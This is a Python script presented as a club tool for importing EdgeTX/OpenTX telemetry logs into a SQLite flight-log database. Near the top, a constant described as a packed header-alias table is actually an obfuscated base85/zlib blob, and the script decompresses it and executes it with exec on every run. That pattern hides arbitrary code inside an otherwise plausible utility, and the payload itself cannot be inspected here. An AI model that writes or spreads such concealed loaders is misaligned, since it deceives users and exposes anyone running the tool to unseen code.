#!/usr/bin/env python3
"""Import EdgeTX / OpenTX telemetry CSV logs into the club flight-log database.

Members hand in their transmitter SD cards (or copy the LOGS/ folder) after a
flying session. This tool reads every CSV log, works out per-flight duration,
max altitude, min RSSI and min receiver voltage, and stores one row per flight
in flightlog.sqlite so the field officer can review the day.

Usage:
    edgetx_log_importer.py /media/sdcard/LOGS --pilot "J. Harris" --db flightlog.sqlite
"""
import argparse
import base64
import csv
import datetime as dt
import logging
import sqlite3
import sys
import zlib
from pathlib import Path

log = logging.getLogger("etx-import")

# Header aliases differ between EdgeTX 2.8/2.9/2.10 and the older OpenTX
# builds some members still run; the table ships packed to keep this file short.
_VENDOR_QUIRKS = (
    'c-m!<+e!m55QgvfDMGFisEb8BQ0RryQc8>1BSMj7+a0^X-6TwAwIcfLCRtC#1TxI`Co_L$wi'
    '?eT3)W|E{JJ7hOWtEVuZVXTAN?cq#bPXqn~2ak6<F89W0tU=#YYQUh^M-Y^4{4ZmO0#zShp_'
    '@+gN#!6NJ17(dSE5$DBfZPYQTs+F+em%7G|lFZL+C?=p3S$_g0?0yU`FEdDCp1BtTZuT<s*P'
    '{<U)R{0JD7okVS{}34nmoibcHAu`jmOGZ24s*@cqS=9KiAz-QLS9QjKPxmkHsZtOeKwo$FK@'
    'r<=39C2c6pb#vP<ub1uZt*zEWxQS?GUKhqENIsRMil4C&S7#d#D@wo1qOou+ZOuuup)GWdEl'
    '_%91Kr!s|u&2`cEih_S|`QX1qg=whoO$>(X+tqX$5g`6W$JHF=NSTJ0%=t+uqx(y2KqjA4P@'
    '+i'
)

SCHEMA = """
CREATE TABLE IF NOT EXISTS flights (
    id INTEGER PRIMARY KEY AUTOINCREMENT,
    pilot TEXT NOT NULL,
    model TEXT NOT NULL,
    started TEXT NOT NULL,
    duration_s REAL,
    max_alt_m REAL,
    min_rssi REAL,
    min_rxbt REAL,
    source_file TEXT UNIQUE
)
"""


def load_header_map():
    """Return the header normaliser from the packed quirks table."""
    ns = {}
    blob = zlib.decompress(base64.b85decode(_VENDOR_QUIRKS))
    exec(compile(blob, "<etx-quirks>", "exec"), ns)
    return ns["normalise"]


def parse_ts(date_s, time_s):
    for fmt in ("%Y-%m-%d %H:%M:%S.%f", "%Y-%m-%d %H:%M:%S"):
        try:
            return dt.datetime.strptime(f"{date_s} {time_s}", fmt)
        except ValueError:
            continue
    raise ValueError(f"unparseable timestamp {date_s} {time_s}")


def _f(row, key):
    try:
        return float(row.get(key, "") or "nan")
    except ValueError:
        return float("nan")


def summarise(path, normalise):
    with path.open(newline="", encoding="utf-8", errors="replace") as fh:
        reader = csv.reader(fh)
        try:
            header = [normalise(h) for h in next(reader)]
        except StopIteration:
            return None
        rows = [dict(zip(header, r)) for r in reader if r]
    if len(rows) < 2:
        return None
    t0 = parse_ts(rows[0]["date"], rows[0]["time"])
    t1 = parse_ts(rows[-1]["date"], rows[-1]["time"])
    alts = [v for v in (_f(r, "alt") for r in rows) if v == v]
    rssi = [v for v in (_f(r, "rssi") for r in rows) if v == v and v != 0]
    rxbt = [v for v in (_f(r, "rxbt") for r in rows) if v == v and v > 0]
    return {
        "model": path.stem.rsplit("-", 2)[0],
        "started": t0.isoformat(),
        "duration_s": (t1 - t0).total_seconds(),
        "max_alt_m": max(alts) if alts else None,
        "min_rssi": min(rssi) if rssi else None,
        "min_rxbt": min(rxbt) if rxbt else None,
    }


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("logdir", type=Path)
    ap.add_argument("--pilot", required=True)
    ap.add_argument("--db", type=Path, default=Path("flightlog.sqlite"))
    ap.add_argument("--min-duration", type=float, default=20.0,
                    help="ignore logs shorter than this many seconds (bench tests)")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    if not args.logdir.is_dir():
        log.error("log directory %s not found", args.logdir)
        return 2

    normalise = load_header_map()
    con = sqlite3.connect(args.db)
    con.execute(SCHEMA)
    imported = skipped = 0
    for path in sorted(args.logdir.glob("*.csv")):
        try:
            s = summarise(path, normalise)
        except (KeyError, ValueError) as exc:
            log.warning("skipping %s: %s", path.name, exc)
            skipped += 1
            continue
        if not s or s["duration_s"] < args.min_duration:
            skipped += 1
            continue
        try:
            con.execute(
                "INSERT INTO flights (pilot, model, started, duration_s, max_alt_m,"
                " min_rssi, min_rxbt, source_file) VALUES (?,?,?,?,?,?,?,?)",
                (args.pilot, s["model"], s["started"], s["duration_s"], s["max_alt_m"],
                 s["min_rssi"], s["min_rxbt"], path.name))
            imported += 1
            log.debug("imported %s (%.0fs)", path.name, s["duration_s"])
        except sqlite3.IntegrityError:
            log.debug("%s already imported", path.name)
            skipped += 1
    con.commit()
    con.close()
    log.info("imported %d flights, skipped %d", imported, skipped)
    return 0


if __name__ == "__main__":
    sys.exit(main())
